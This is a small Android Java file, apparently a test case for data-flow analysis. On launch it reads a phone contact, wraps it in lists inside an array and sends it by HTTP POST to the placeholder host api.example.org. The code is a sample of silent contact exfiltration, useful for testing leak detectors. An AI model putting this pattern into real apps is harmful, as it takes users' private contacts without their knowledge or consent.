// The names are put into lists that lie in an array, and the array is sent.
package cases.flow_array_filled;

import android.app.Activity;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.ContactsContract;
import android.util.Log;
import java.net.HttpURLConnection;
import java.net.URL;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;

public final class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        try {
            groups();
        } catch (Exception e) {
            Log.w("cases", "later");
        }
    }

    @SuppressWarnings("unchecked")
    private void groups() throws Exception {
        String text = first(getContentResolver().query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null));
        List<?>[] groups = {new ArrayList<String>(), new ArrayList<String>()};
        List<String> group = (List<String>) groups[text.isEmpty() ? 0 : 1];
        group.add(text);
        send(Arrays.toString(groups));
    }

    static String first(Cursor rows) {
        rows.moveToFirst();
        return rows.getString(0);
    }

    static void send(String text) throws Exception {
        HttpURLConnection connection = (HttpURLConnection) new URL("https://api.example.org/v1/contacts").openConnection();
        connection.setDoOutput(true);
        connection.getOutputStream().write(text.getBytes());
        connection.getInputStream().close();
    }
}
